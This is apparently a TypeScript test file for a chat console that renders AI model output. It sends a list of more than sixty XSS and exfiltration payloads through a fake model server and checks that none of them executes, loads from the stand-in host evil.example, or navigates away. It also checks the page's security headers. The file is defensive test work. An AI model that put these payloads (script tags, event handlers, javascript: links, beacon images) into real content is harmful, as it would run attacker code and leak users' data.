import assert from "node:assert/strict";
import { test } from "node:test";
import { conversation, send, startConsole } from "../harness/browser.ts";
import { saying, startModelServer } from "../harness/openai-server.ts";

const HOST = "http://evil.example";

/** What a hostile model, or a page that it has read, writes to run something or to phone home. */
const HOSTILE = [
  "<script>window.hacked = 1</script>",
  `<script src="${HOST}/a.js"></script>`,
  "<img src=x onerror=window.hacked=1>",
  `<img src="${HOST}/pixel.png">`,
  `![picture](${HOST}/pixel.png)`,
  `![picture][p]\n\n[p]: ${HOST}/pixel.png`,
  "<svg onload=window.hacked=1></svg>",
  "<svg><script>window.hacked=1</script></svg>",
  `<svg><image href="${HOST}/a.svg"/></svg>`,
  `<iframe src="${HOST}"></iframe>`,
  '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  `<object data="${HOST}/a"></object>`,
  `<embed src="${HOST}/a">`,
  `<link rel="stylesheet" href="${HOST}/a.css">`,
  `<link rel="prefetch" href="${HOST}/a">`,
  `<style>@import "${HOST}/a.css";</style>`,
  `<style>body { background: url(${HOST}/a) }</style>`,
  `<div style="background: url(${HOST}/a)">styled</div>`,
  `<base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0; url=${HOST}">`,
  `<form action="${HOST}"><input name=a value=b></form>`,
  `<form id=f action="${HOST}"></form><button form=f>Allow once</button>`,
  `<video src="${HOST}/a.mp4" autoplay></video>`,
  `<audio src="${HOST}/a.mp3" autoplay></audio>`,
  `<picture><source srcset="${HOST}/a.png"><img></picture>`,
  `<input type="image" src="${HOST}/a.png">`,
  "<details open ontoggle=window.hacked=1>open</details>",
  "<input autofocus onfocus=window.hacked=1>",
  "<body onload=window.hacked=1>",
  "<marquee onstart=window.hacked=1>moving</marquee>",
  "<a href='javascript:window.hacked=1'>html link</a>",
  "[link](javascript:window.hacked=1)",
  "[link](JaVaScRiPt:window.hacked=1)",
  "[link](java\nscript:window.hacked=1)",
  "[link](&#106;avascript:window.hacked=1)",
  "[link](javascript&colon;window.hacked=1)",
  "[link](%6Aavascript:window.hacked=1)",
  "[link]( javascript:window.hacked=1)",
  "[link](\u0001javascript:window.hacked=1)",
  "[link](vbscript:msgbox)",
  "[link](data:text/html,<script>window.hacked=1</script>)",
  "[link](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=)",
  "[link](blob:http://127.0.0.1/x)",
  "[link](file:///etc/passwd)",
  "[link][r]\n\n[r]: javascript:window.hacked=1",
  "<javascript:window.hacked=1>",
  "![x](javascript:window.hacked=1)",
  "![x](data:text/html,<script>window.hacked=1</script>)",
  '[link](http://a.example" onclick="window.hacked=1)',
  "[link](http://a.example 'title\" onmouseover=window.hacked=1')",
  '![x" onerror="window.hacked=1](x)',
  "```html\n<script>window.hacked = 1</script>\n```",
  '```"><script>window.hacked=1</script>\ncode\n```',
  "```js onload=window.hacked=1\ncode()\n```",
  "`<script>window.hacked=1</script>`",
  "| <script>window.hacked=1</script> | b |\n|---|---|\n| <img src=x onerror=window.hacked=1> | d |",
  "> <script>window.hacked=1</script>",
  "- <img src=x onerror=window.hacked=1>",
  "# <script>window.hacked=1</script>",
  "&lt;script&gt;window.hacked=1&lt;/script&gt;",
  "<!--><script>window.hacked=1</script>-->",
  "<![CDATA[<script>window.hacked=1</script>]]>",
  "<math><mtext><script>window.hacked=1</script></mtext></math>",
  "<template><script>window.hacked=1</script></template>",
  "\u202ehidden\u202c and \u001b]0;title\u0007",
];

test("what a hostile model writes runs nothing, loads nothing and leads nowhere", async () => {
  assert.ok(HOSTILE.length >= 60);
  const text = HOSTILE.map((each, index) => `Case ${index}:\n\n${each}\n\n`);
  await using models = await startModelServer(() => saying(...text, "\n\nThe end."));
  await using shown = await startConsole({ models });
  const page = await shown.open();
  await send(page, "be hostile");
  await conversation(page).getByText("The end.").waitFor();
  await page.getByRole("button", { name: "Stop" }).waitFor({ state: "detached" });
  const address = page.url();
  const found = await page.evaluate(() => {
    const log = document.querySelector('[role="log"]')!;
    const forbidden =
      "script,img,iframe,object,embed,link,style,base,meta,form,video,audio,picture,template,math";
    const own = (element: Element) => element.closest(".code, .message-agent .markdown") !== null;
    const handlers = [...log.querySelectorAll("*")].filter((element) =>
      [...element.attributes].some(({ name }) => name.startsWith("on")),
    );
    return {
      hacked: "hacked" in window,
      elements: [...log.querySelectorAll(forbidden)].filter(own).map((element) => element.outerHTML),
      handlers: handlers.map((element) => element.outerHTML),
      links: [...log.querySelectorAll("a")]
        .map((link) => link.href)
        .filter((href) => !/^(https?|mailto):/.test(href)),
    };
  });
  assert.deepEqual(found, { hacked: false, elements: [], handlers: [], links: [] });
  assert.equal(page.url(), address);
});

test("a link of an answer opens apart, without a way back to this page", async () => {
  await using models = await startModelServer(() => saying("See [the page](https://example.com/)."));
  await using shown = await startConsole({ models });
  const page = await shown.open();
  await send(page, "link");
  const link = conversation(page).getByRole("link", { name: "the page" });
  assert.equal(await link.getAttribute("target"), "_blank");
  assert.match((await link.getAttribute("rel")) ?? "", /noopener/);
});

test("every page has the strict policy, and a missing file is 404 and not a page", async () => {
  await using shown = await startConsole();
  const page = await shown.open("/runs");
  for (const path of ["/runs", "/login", "/chat/anything"]) {
    const response = await page.request.get(path, { headers: { accept: "text/html" } });
    const policy = response.headers()["content-security-policy"] ?? "";
    assert.match(policy, /default-src 'none'/, path);
    assert.match(policy, /require-trusted-types-for 'script'/, path);
    assert.doesNotMatch(policy, /unsafe-/, path);
    assert.equal(response.headers()["x-content-type-options"], "nosniff", path);
  }
  const missing = await page.request.get("/_console/main-OLD00000.js", { headers: { accept: "*/*" } });
  assert.equal(missing.status(), 404);
  assert.doesNotMatch(missing.headers()["content-type"] ?? "", /html/);
});
